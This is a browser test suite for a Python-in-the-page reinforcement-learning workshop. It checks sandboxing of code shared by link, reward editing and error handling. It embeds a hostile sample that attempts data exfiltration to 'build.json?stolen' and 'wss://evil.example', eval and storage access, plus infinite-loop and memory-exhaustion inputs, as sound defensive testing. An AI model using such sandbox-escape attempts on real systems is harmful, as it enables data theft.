"""Python on the page: a reader's reward changes what is learned, and code that goes wrong costs only its attempt.

One page for all of it, opened by a link with a stranger's code.
"""

from __future__ import annotations

import math
import os
import time
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from drillsergeant.runtimes.page.panels.code_exchange import CAME
from drillsergeant.runtimes.page.panels.code_link import code_in, with_code

from tests.rigs.pages.visitor import Household, Visitor

AWAY = "closer = (_gap(after, player) - _gap(before, player)) * 4.0"
CLOSER = "closer = (_gap(before, player) - _gap(after, player)) * (self.to_ball_reward / (2.0 * self.half_length_m))"
RETURN = "return [goal, seen_from(player, nearer), closer]"
SAID = "#workshop-said"
# What a stranger's code would try, and the clock, which everybody may look at. A package is asked for by a promise,
# which comes to nothing later.
STRANGE = """from drillsergeant.browser.worker import host
js, load = host.js, host.importlib.import_module
ATTEMPTS = {
    "clock": lambda: js.performance.now(),
    "fetch": lambda: js.fetch("build.json?stolen"),
    "pyfetch": lambda: load("pyodide.http").pyfetch("build.json?stolen").send(None),
    "open_url": lambda: load("pyodide.http").open_url("build.json?stolen"),
    "package": lambda: js.pyodide._api.loadBinaryFile("build.json?stolen"),
    "request": lambda: js.XMLHttpRequest.new(),
    "socket": lambda: js.WebSocket.new("wss://evil.example"),
    "events": lambda: js.EventSource.new("build.json?stolen"),
    "font": lambda: js.FontFace.new("x", "url(build.json?stolen)").load(),
    "worker": lambda: js.Worker.new("workers/show.js"),
    "tabs": lambda: js.BroadcastChannel.new("x"),
    "database": lambda: js.indexedDB.open("x"),
    "caches": lambda: js.caches.open("x"),
    "files": lambda: js.navigator.storage.getDirectory(),
    "locks": lambda: js.navigator.locks.query(),
    "navigator": lambda: js.WorkerNavigator.prototype.storage.getDirectory(),
    "local": lambda: js.localStorage.setItem("x", "y"),
    "page": lambda: js.document.title,
    "scripts": lambda: js.importScripts("workers/show.js"),
    "eval": lambda: js.eval("1"),
    "run_js": lambda: load("pyodide.code").run_js("1"),
    "function": lambda: js.Function.new("return 1"),
    "constructor": lambda: js.Object.constructor.new("return 1"),
    "timer": lambda: js.setTimeout("1"),
    "end": lambda: js.self.close(),
}
reached = []
for name, attempt in ATTEMPTS.items():
    try:
        attempt()
        reached.append(name)
    except BaseException:
        pass
raise ValueError("reached: " + " ".join(reached))
"""
LOOKED_S, WITHIN_S = 2.0, 60.0
AT_LENGTH = bool(os.environ.get("LOOKS_AT_LENGTH"))
# More that is wrong in what is returned, and what is said of it: `make visit`.
MORE_WRONG = (
    ("return [np.mean(goal)]", "every lane alone"),
    (f"{RETURN}\n    teams = (1,)", "cannot be changed here"),
    ("return [goal / (goal * 0.0)]", "nan"),
    ("return [np.concatenate([goal] * 10**9)]", "memory"),
)


def end(code: str) -> str:
    """What is after the `#` of a link with this code, and that."""
    return "#" + with_code("", code).partition("#")[2]


@pytest.fixture(scope="module")
def opened(household: Household, address: str) -> Iterator[Visitor]:
    """A visitor who came by a link with code, and may copy and paste."""
    visitor = Visitor(household, address)
    visitor.context.grant_permissions(["clipboard-read", "clipboard-write"])
    visitor.open("?drill=chase&learner=wasm" + end(STRANGE))
    yield visitor
    visitor.close()


def soccer(visitor: Visitor) -> str:
    """Play soccer, with the workshop open; returns the code in it."""
    visitor.page.select_option("#drill-choice", "ball")
    if visitor.page.get_attribute("#dock-code", "aria-selected") != "true":
        visitor.page.click("#dock-code")
    visitor.page.wait_for_selector("#workshop-editor[data-ready]")
    visitor.until("the code is there", lambda: "class Mine(BallDrill)" in code(visitor))
    return code(visitor)


def code(visitor: Visitor) -> str:
    text: str = visitor.page.evaluate("document.getElementById('workshop-editor').value")
    return text


def paste(visitor: Visitor, text: str) -> None:
    """Paste code over all there is in the editor, and press Run."""
    page = visitor.page
    page.evaluate("(text) => navigator.clipboard.writeText(text)", text)
    page.click("#workshop-editor .cm-content")
    for keys in ("ControlOrMeta+A", "ControlOrMeta+V"):
        page.keyboard.press(keys)
    visitor.until("it is pasted", lambda: code(visitor) == text)
    page.click("#workshop-run")


def run(visitor: Visitor, text: str, ends: str, limit_s: float = 120.0) -> str:
    """Run this code; returns what is said once `ends` is in it."""
    paste(visitor, text)
    visitor.until(f"{ends!r} is said", lambda: ends in visitor.page.inner_text(SAID), limit_s)
    return visitor.page.inner_text(SAID)


def gap(visitor: Visitor) -> float:
    """From orange to the ball on screen, m; NaN where that is not told."""
    show = visitor.told()["show"]
    if "ball_x" not in show:
        return math.nan
    return math.hypot(show["player0_x"] - show["ball_x"], show["player0_y"] - show["ball_y"])


def mean(found: list[float]) -> float:
    """Of what was told."""
    told = [each for each in found if not math.isnan(each)]
    return sum(told) / len(told)


def distance_once(visitor: Visitor, wanted: Callable[[float], bool]) -> float:
    """The mean distance over LOOKED_S at four times the speed, once it is as wanted; the last one after WITHIN_S."""
    ends_s = time.monotonic() + WITHIN_S
    while True:
        found, looked_s = [], time.monotonic() + LOOKED_S
        while time.monotonic() < looked_s:
            found.append(gap(visitor))
            visitor.page.wait_for_timeout(250)
        if wanted(mean(found)) or time.monotonic() > ends_s:
            return mean(found)


def test_a_link_with_code_runs_at_a_press_alone_and_reaches_nothing(opened: Visitor, tmp_path: Path) -> None:
    visitor, page = opened, opened.page
    page.wait_for_selector("#workshop-editor[data-ready]")
    assert code(visitor) == STRANGE and page.inner_text(SAID) == CAME
    visitor.until_the_match_moves()
    for hostile in (end("while True: pass\n"), end(STRANGE)[:-9], "#code=%00", "#code=" + "A" * 60_000, end(STRANGE)):
        page.evaluate("(end) => { location.hash = end; }", hostile)
    visitor.until("the last link is shown", lambda: code(visitor) == STRANGE)
    assert page.inner_text("#address-note-text").startswith("The code in the page's address is left out:")
    assert not [worker for worker in page.workers if "workshop" in worker.url], "nothing has run"

    page.click("#workshop-run")
    visitor.until("it has run", lambda: "Training goes on" in page.inner_text(SAID), 120.0)
    assert "reached: clock package. Training" in page.inner_text(SAID)
    visitor.until("the link is out of the address", lambda: "#" not in page.url)

    page.click("#workshop-editor .cm-content")
    page.keyboard.press("ControlOrMeta+End")
    page.keyboard.type("# mine")
    page.click("#workshop-link")
    visitor.until("the link is copied", lambda: "The link is copied" in page.inner_text(SAID))
    address, mark, packed = page.evaluate("navigator.clipboard.readText()").partition("#")
    assert address.endswith("?drill=chase&learner=wasm&dock=code") and code_in(mark + packed) == STRANGE + "# mine"
    with page.expect_download() as saved:
        page.click("#workshop-save")
    saved.value.save_as(tmp_path / "mine.py")
    page.click("#workshop-restore")
    visitor.until("the original is back", lambda: "running again" in page.inner_text(SAID))
    assert "class Mine" in code(visitor)
    page.set_input_files("#workshop-file", tmp_path / "mine.py")
    visitor.until("the file is open", lambda: code(visitor) == STRANGE + "# mine")
    assert page.inner_text(SAID).startswith("mine.py is open.")
    assert not [request for request in visitor.requests if "evil" in request or "stolen" in request]
    assert visitor.told()["errors"] == [] and visitor.told()["restarts"] == {}


def test_a_reward_for_running_away_is_learned_and_restored(opened: Visitor) -> None:
    visitor, page = opened, opened.page
    visitor.complaints.clear()  # of what strangers try
    original = soccer(visitor)
    assert CLOSER in original and RETURN in original
    page.select_option("#speed", "4")
    visitor.train(on=True)
    visitor.until("it runs after the ball", lambda: (visitor.trainer("decisions") or 0) > 400_000, 120)
    visitor.train(on=False)
    away = original.replace(CLOSER, AWAY).replace(RETURN, "return [goal * 0.0, nearer * 0.0, closer]")
    updates = visitor.trainer("updates")
    found: list[float] = []

    def running() -> bool:
        found.append(gap(visitor))
        return "Your code is running" in page.inner_text(SAID) and len(found) > 20

    paste(visitor, away)
    visitor.until("it runs, and the match was watched", running, 120)
    assert "goes on with what it learned" in page.inner_text(SAID)
    near = mean(found)
    visitor.train(on=True)
    visitor.until("running away pays", lambda: (visitor.trainer("reward_to_ball") or 0.0) > 0.0, WITHIN_S)
    visitor.snapshot("workshop")
    far = distance_once(visitor, lambda metres: metres > near + 1.0)
    assert far > near + 1.0, f"{near:.2f} m before, {far:.2f} m after"
    assert visitor.trainer("updates") > updates, "the trainer went on counting"
    assert visitor.told()["restarts"] == {}

    page.click("#workshop-restore")
    visitor.until("the original is back", lambda: "original is running again" in page.inner_text(SAID))
    assert code(visitor) == original
    back = distance_once(visitor, lambda metres: metres < far - 0.7)
    assert back < far - 0.7, f"{far:.2f} m away, {back:.2f} m after"
    visitor.train(on=False)
    page.select_option("#speed", "1")
    assert visitor.told()["errors"] == []
    assert visitor.complaints == []


def test_code_that_goes_wrong_is_explained_and_training_goes_on(opened: Visitor) -> None:
    visitor, page = opened, opened.page
    original = soccer(visitor)
    visitor.train(on=True)
    visitor.until("training runs", lambda: (visitor.trainer("updates") or 0) >= 2)

    said = run(visitor, original.replace(RETURN, "return [goal, closer"), "Training goes on")
    assert "SyntaxError" in said and said.startswith("Line ")
    assert page.locator("#workshop-editor .cm-lint-marker-error").count() == 1
    updates, line = visitor.trainer("updates"), original[: original.index(RETURN)].count("\n") + 1
    said = run(visitor, original.replace(RETURN, "if goal > 0: return [goal]\n        return [nearer]"), "Line ")
    assert "np.where(goal > 0, a, b)" in said and said.startswith(f"Line {line}:")
    for text, why in MORE_WRONG if AT_LENGTH else ():
        run(visitor, original.replace(RETURN, text), why)
    visitor.until("training went on", lambda: visitor.trainer("updates") > updates + 20)
    visitor.train(on=False)  # what follows takes its time, and the cores
    page.clock.install()
    paste(visitor, original.replace(RETURN, "while True: pass"))
    visitor.until("it is tried", lambda: page.inner_text(SAID).startswith("Checking"))
    page.clock.fast_forward(10_000)
    visitor.until("it was stopped", lambda: "did not end within 10 s and was stopped" in page.inner_text(SAID))
    run(visitor, original.replace(RETURN, "x = []\n        while True: x.append(bytearray(10**7))"), "more memory", 90)

    visitor.train(on=True)
    seen = original.replace("            dx * (1.0 / NEAR_M),\n", "")
    assert "38 numbers now" not in run(visitor, seen, "cannot go on with this"), "one input less"
    assert visitor.trainer("updates") > 2, "asked first"
    assert "start from nothing" in run(visitor, seen, "they start from nothing")
    visitor.until("the new network learns", lambda: (visitor.trainer("updates") or 0) >= 5)
    visitor.until_the_match_moves()
    visitor.train(on=False)
    assert visitor.told()["restarts"] == {}
    assert visitor.told()["errors"] == []
